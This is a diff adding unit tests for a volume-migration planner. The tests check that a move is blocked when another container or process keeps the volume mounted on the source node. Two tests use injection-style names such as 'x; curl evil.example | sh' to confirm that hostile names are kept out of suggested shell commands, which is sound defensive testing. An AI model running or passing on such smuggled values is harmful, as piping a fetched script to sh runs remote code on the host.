@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import type { Volume } from '../../../src/model/cluster.ts';
+import type { ForeignMount, Volume } from '../../../src/model/cluster.ts';
 import { makePlan } from '../../../src/plan/make-plan.ts';
 import { aCluster, aConfig, aContainer, aMount, anApplication, aVolume, onNode, snaps } from '../../builders.ts';
 
@@ -62,5 +62,63 @@ describe('a copy that cannot take the stream', () => {
       reason: 'cannot move "db" to "b": it does not fit: it needs 19073 MiB and the pool has 8584 MiB free',
     });
     expect(planWith({ referencedBytes: 15_000_000_000 }, big).blocked).toEqual([]);
+  });
+});
+
+describe('a volume that another program keeps mounted on the node it leaves', () => {
+  const user = { dataset: 'drover/volumes/db-v1', container: 'backup', pid: 12, process: 'sleep' };
+  const plan = (place: readonly string[], foreignMounts: readonly ForeignMount[]) => {
+    const source = aVolume('v1', { on: 'a', application: 'db', dataset: user.dataset, snapshots: snaps('a1') });
+    const seen = { containers: [aContainer(db, 'a')], volumes: [source], foreignMounts };
+    return makePlan(
+      { ...config, deployment: { a: [], b: [], [place[0] ?? '']: ['db'] } },
+      aCluster(onNode('a', seen), onNode('b')),
+    );
+  };
+
+  it('is found before anything stops, with the container and what to do', () => {
+    const { steps, blocked } = plan(['b'], [user]);
+    expect(steps.filter(({ group }) => group === 'db')).toEqual([]);
+    expect(blocked).toEqual([
+      {
+        app: 'db',
+        node: 'a',
+        reason: 'cannot move volume "v1" from "a" to "b": container "backup" keeps it mounted there',
+        hint: expect.stringContaining('docker stop backup'),
+      },
+    ]);
+  });
+
+  it('is named by its process where it is in no container', () => {
+    const { container: _container, ...process } = user;
+    expect(plan(['b'], [process]).blocked[0]).toMatchObject({
+      reason: expect.stringContaining('process 12 (sleep) keeps it mounted'),
+      hint: expect.stringContaining('end process 12'),
+    });
+  });
+
+  it('is named, and in no command, where its name is none that Docker gives', () => {
+    const [blocker] = plan(['b'], [{ ...user, container: 'x; curl evil.example | sh' }]).blocked;
+    expect(blocker?.hint).toContain('stop it until the volume has left the node;');
+    expect(blocker?.hint).not.toContain('curl');
+  });
+
+  it('names a dataset below the volume, and puts it in no command, where its name is not a plain one', () => {
+    const child = `${user.dataset}/x; curl evil.example`;
+    const source = { ...aVolume('v1', { on: 'a', application: 'db', dataset: user.dataset }), children: [child] };
+    const seen = { containers: [aContainer(db, 'a')], volumes: [source] };
+    const [blocker] = makePlan(
+      { ...config, deployment: { a: [], b: ['db'] } },
+      aCluster(onNode('a', seen), onNode('b')),
+    ).blocked;
+    expect(blocker).toMatchObject({
+      reason: expect.stringContaining(child),
+      hint: 'put what is needed into the volume itself',
+    });
+  });
+
+  it('stays where it is without a word, and moves where another volume is meant', () => {
+    expect(plan(['a'], [user]).blocked).toEqual([]);
+    expect(plan(['b'], [{ ...user, dataset: 'drover/volumes/other' }]).blocked).toEqual([]);
   });
 });
